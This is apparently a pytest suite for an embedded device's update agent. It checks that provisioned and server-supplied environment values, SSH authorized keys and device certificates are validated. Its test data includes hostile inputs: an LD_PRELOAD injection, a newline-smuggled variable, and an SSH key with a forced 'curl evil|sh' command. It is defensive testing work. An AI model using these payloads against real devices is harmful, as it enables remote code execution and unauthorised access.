"""Fleet onboarding on the device, with the real agent on a file-backed device: the application's environment
from the identity, the provisioned values and the server's; the operators' SSH keys; the device certificate
in the auth request; the required configuration in the health verdict. Attack stories: what a writable /data
or a server that is not trusted can put in each of them."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519

from device_hooks.config import load_config
from device_hooks.health import run_checks

from .agent_device import FileDevice
from .hostile_server import Hostile, hostile_server
from .test_agent_local import UNREACHABLE, make_artifact


def ssh_key(comment: str = "") -> str:
    pub = ed25519.Ed25519PrivateKey.generate().public_key()
    line = pub.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH).decode()
    return f"{line} {comment}".rstrip()


def fingerprint(line: str) -> str:
    from ota_common.sshkeys import parse_line

    return parse_line(line).fingerprint


@pytest.fixture
def server() -> Iterator[Hostile]:
    with hostile_server() as s:
        yield s


@pytest.fixture
def device(tmp_path: Path, server: Hostile, keys) -> FileDevice:  # type: ignore[no-untyped-def]
    return FileDevice(tmp_path / "dev", server.url, [keys["ec"][1]], check_server=False, device_id="cam-017")


def poll(device: FileDevice) -> str:
    proc = device.agent("check-update")
    return proc.stdout.strip() + "\n" + proc.stderr


# ------------------------------------------------------------------ the application's environment

def test_provisioned_values_reach_the_app_before_any_server_contact(tmp_path: Path, keys) -> None:  # type: ignore[no-untyped-def]
    dev = FileDevice(tmp_path / "dev", UNREACHABLE, [keys["ec"][1]], check_server=False, device_id="cam-017")
    (dev.data / "provisioned.env").write_text('# build.py provision\nDVR_IP=10.0.0.9\nDEVICE_ID="cam-017"\n')
    assert poll(dev).startswith("offline")
    assert (dev.data / "device.env").read_text() == "DEVICE_ID=cam-017\nDVR_IP=10.0.0.9\n"


def test_server_values_override_the_provisioned_ones_and_survive_a_restart_offline(
        device: FileDevice, server: Hostile) -> None:
    (device.data / "provisioned.env").write_text("DVR_IP=10.0.0.9\n")
    server.configuration = {"DVR_IP": "10.20.0.5"}
    assert poll(device).startswith("idle")
    env = device.data / "device.env"
    assert env.read_text() == "DEVICE_ID=cam-017\nDVR_IP=10.20.0.5\n"
    device.server_url = UNREACHABLE
    device.write_config()
    assert poll(device).startswith("offline")
    assert env.read_text() == "DEVICE_ID=cam-017\nDVR_IP=10.20.0.5\n", "the start must not drop the server's values"


@pytest.mark.parametrize("line, why", [
    ("LD_PRELOAD=/data/evil.so", "LD_PRELOAD: changes how programs load code"),
    ("PYTHONPATH=/data/py", "PYTHONPATH: changes how programs load code"),
    ('DVR_IP="10.0.0.1\nLD_PRELOAD=/data/evil.so"', "unbalanced quotes"),
    ("DVR_IP=10.0.0.1\x1b[2J", "its value has a newline, NUL or another control character"),
    ("SITE=north", "SITE: not declared by this image"),
    ("SSH_AUTHORIZED_KEYS=ssh-ed25519 AAAA", "the SSH keys are provisioned as"),
    ("not a line", "not NAME=value"),
], ids=["ld-preload", "pythonpath", "newline-value", "escape", "undeclared", "ssh-keys", "garbage"])
def test_provisioned_env_that_would_run_code_is_skipped_line_by_line(device: FileDevice, line: str, why: str) -> None:
    """A provisioned.env is /data: each bad line is logged and skipped (never passed to the application),
    the good ones still apply."""
    (device.data / "provisioned.env").write_text(f"DEVICE_ID=cam-017-b\n{line}\n")
    out = poll(device)
    assert why in out, out
    text = (device.data / "device.env").read_text()
    assert text.startswith("DEVICE_ID=cam-017-b\n")
    assert "LD_PRELOAD" not in text and "PYTHONPATH" not in text and "SITE" not in text and "\x1b" not in text
    assert "SSH" not in text


def test_provisioned_env_larger_than_64_kib_is_ignored(device: FileDevice) -> None:
    (device.data / "provisioned.env").write_text("DVR_IP=10.0.0.9\n" + "#" * (70 * 1024) + "\n")
    assert "larger than 65536 bytes" in poll(device)
    assert (device.data / "device.env").read_text() == "DEVICE_ID=cam-017\n"


# ------------------------------------------------------------------ SSH keys

def test_ssh_keys_from_the_server_go_to_authorized_keys_not_to_the_app(device: FileDevice, server: Hostile) -> None:
    provisioned = ssh_key("installer")
    keys_file = device.data / "authorized_keys"
    keys_file.write_text(provisioned + "\n")
    server.configuration = {"DVR_IP": "10.20.0.5"}
    poll(device)
    assert keys_file.read_text() == provisioned + "\n", "the server does not set it: the provisioned file stays"
    inv = server.last_inventory()
    assert inv["ssh_authorized_keys"] == [fingerprint(provisioned)]
    assert inv["device_id"] == "cam-017" and inv["hostname"]
    a, b = ssh_key("alice@ops"), ssh_key("bob@ops")
    server.configuration = {"DVR_IP": "10.20.0.5", "SSH_AUTHORIZED_KEYS": f"{a};{b}"}
    poll(device)
    assert keys_file.read_text() == f"{a}\n{b}\n"
    assert keys_file.stat().st_mode & 0o777 == 0o600
    assert "SSH" not in (device.data / "device.env").read_text()
    assert server.last_inventory()["ssh_authorized_keys"] == [fingerprint(a), fingerprint(b)]


@pytest.mark.parametrize("value, why", [
    (f'command="/bin/sh -c \'curl evil|sh\'" {ssh_key()}', "not a key type"),
    (f'from="*",no-pty {ssh_key()}', "not a key type"),
    ("ssh-rsa " + ssh_key().split()[1], "the key blob is a 'ssh-ed25519' key, the line says ssh-rsa"),
    ("ssh-ed25519 " + "A" * 40, "the key blob is a '' key"),
    (f"{ssh_key()} innocent\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA== x", "key line 2"),
], ids=["command-option", "from-option", "forged-blob", "garbage-blob", "second-line-bad"])
def test_ssh_keys_with_options_or_a_forged_blob_change_nothing(device: FileDevice, server: Hostile, value: str,
                                                              why: str) -> None:
    """A compromised server cannot turn an operator's key into a forced command, or slip in a key whose blob
    is not what the line says: the keys stay as they were, the refusal shows in the inventory, and the rest of
    the configuration still applies."""
    good = ssh_key("ops")
    server.configuration = {"SSH_AUTHORIZED_KEYS": good}
    poll(device)
    keys_file = device.data / "authorized_keys"
    before = keys_file.read_bytes()
    server.configuration = {"SSH_AUTHORIZED_KEYS": value, "DVR_IP": "10.20.0.7"}
    poll(device)
    assert keys_file.read_bytes() == before
    refused = server.last_inventory()["config_refused"]
    assert refused.startswith("SSH_AUTHORIZED_KEYS: ") and why in refused, refused
    assert "DVR_IP=10.20.0.7" in (device.data / "device.env").read_text()
    assert server.last_inventory()["ssh_authorized_keys"] == [fingerprint(good)]


# ------------------------------------------------------------------ the device certificate

def test_the_device_certificate_rides_the_auth_request(device: FileDevice, server: Hostile, tmp_path: Path) -> None:
    """As build.py provision leaves it: the device key and its certificate from the fleet CA."""
    from ota_common.fleetca import FleetCA, cert_pem, make_fleet_ca

    make_fleet_ca(tmp_path / "ca")
    key = ec.generate_private_key(ec.SECP256R1())
    (device.data / "device-key.pem").write_bytes(key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    pem = cert_pem(FleetCA(tmp_path / "ca").issue(key.public_key(), "cam-017")).decode()
    (device.data / "device-cert.pem").write_text(pem)
    poll(device)
    body = server.auth_requests[-1]
    assert body["device_cert"] == pem
    assert json.loads(body["id_data"]) == {"device_id": "cam-017"}


@pytest.mark.parametrize("content, why", [
    (b"-----BEGIN CERTIFICATE-----\n" + b"A" * (20 << 20), "larger than 16384 bytes"),
    (b"-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----\n", "does not start with -----BEGIN CERT"),
    (b"\x00" * 100, "does not start with"),
], ids=["20-mib", "private-key", "binary"])
def test_a_huge_or_foreign_certificate_file_is_not_sent(device: FileDevice, server: Hostile, content: bytes,
                                                        why: str) -> None:
    (device.data / "device-cert.pem").write_bytes(content)
    out = poll(device)
    assert out.startswith("idle"), out
    assert why in out and out.count("not sent") == 1, out
    assert all("device_cert" not in b for b in server.auth_requests)


# ------------------------------------------------------------------ required configuration in the health verdict

def test_required_config_missing_or_placeholder_fails_the_check(device: FileDevice) -> None:
    cfg = load_config(device.config_path)
    cfg = replace(cfg, health=replace(cfg.health, required_config=("DEVICE_ID", "DVR_IP"),
                                      config_placeholders=("DEVICE_ID=unprovisioned", "DVR_IP=192.168.1.100")))
    app_env = Path(cfg.health.app_env)
    app_env.write_text("DEVICE_ID=unprovisioned\nDVR_IP=192.168.1.100\nVV_VERSION=1.0.0\n")
    res = run_checks(cfg)
    assert not res.ok
    assert res.summary == ("DEVICE_ID is still the placeholder unprovisioned; DVR_IP is still the placeholder "
                           "192.168.1.100")
    (device.data / "device.env").write_text('DEVICE_ID=cam-017\nDVR_IP=""\n')
    assert run_checks(cfg).summary == "DVR_IP is missing"
    (device.data / "device.env").write_text("DEVICE_ID=cam-017\nDVR_IP=10.0.2.2\n")
    res = run_checks(cfg)
    assert res.ok, res.lines
    app_env.write_text("DEVICE_ID=unprovisioned\n")
    (device.data / "device.env").unlink()
    assert run_checks(cfg).summary == "DEVICE_ID is still the placeholder unprovisioned; DVR_IP is missing"


def test_a_trial_without_its_required_config_rolls_back(tmp_path: Path, keys) -> None:  # type: ignore[no-untyped-def]
    dev = FileDevice(tmp_path / "dev", UNREACHABLE, [keys["ec"][1]], check_server=False,
                     required_config=("DEVICE_ID", "DVR_IP"),
                     config_placeholders={"DEVICE_ID": "unprovisioned", "DVR_IP": "192.168.1.100"})
    (dev.root / "app.env").write_text("DEVICE_ID=unprovisioned\nDVR_IP=192.168.1.100\n")
    (dev.data / "device.env").write_text("DEVICE_ID=cam-017\n")
    art, _ = make_artifact(tmp_path, keys["ec"][0])
    assert dev.agent("install", str(art)).returncode == 0
    assert dev.boot() == 3
    proc = dev.agent("health")
    assert proc.returncode == 2, proc.stderr
    assert json.loads((dev.data / "health.json").read_text())["summary"] == \
        "DVR_IP is still the placeholder 192.168.1.100"
    assert dev.bootenv.read()["mender_boot_part"] == "2"


def test_an_update_from_the_previous_agent_keeps_the_servers_values(device: FileDevice) -> None:
    """The previous agent wrote only the server's values to device.env and kept no copy: the first start of
    this one takes them from there (dropping them would fail this release's own trial: DVR_IP is missing)."""
    (device.data / "device.env").write_text("DEVICE_ID=cam-9\nDVR_IP=10.20.0.5\nLD_PRELOAD=/x\n")
    device.server_url = UNREACHABLE
    device.write_config()
    assert poll(device).startswith("offline")
    assert (device.data / "device.env").read_text() == "DEVICE_ID=cam-9\nDVR_IP=10.20.0.5\n"


# ------------------------------------------------------------------ the image's side

def test_sshd_lets_root_in_with_the_fleet_keys_only() -> None:
    """Keys only, for everyone; root's keys come from /data/ota/authorized_keys (the agent's file) or its own
    ~/.ssh, nowhere else."""
    from .agent_device import REPO

    text = (REPO / "layers/base/files/sshd-keys-only.conf").read_text()
    before_match, _, match = text.partition("\nMatch User root\n")
    settings = {line.split()[0]: line.split(None, 1)[1] for line in before_match.splitlines()
                if line.strip() and not line.startswith("#")}
    assert settings["PasswordAuthentication"] == "no" and settings["KbdInteractiveAuthentication"] == "no"
    assert settings["PermitRootLogin"] == "prohibit-password" and settings["PermitEmptyPasswords"] == "no"
    assert match.split("\n")[0].split() == ["AuthorizedKeysFile", "/data/ota/authorized_keys", ".ssh/authorized_keys"]
    assert "PasswordAuthentication no" in match


def test_the_hostname_is_set_before_the_network_from_the_identity() -> None:
    from .agent_device import REPO

    unit = (REPO / "layers/ota/files/ota-hostname.service").read_text()
    assert "ExecStart=/usr/lib/vv-ota/identity --set-hostname" in unit
    assert "Before=network-pre.target systemd-networkd.service" in unit and "After=data.mount" in unit
    assert "ota-hostname.service" in (REPO / "layers/ota.yaml").read_text()
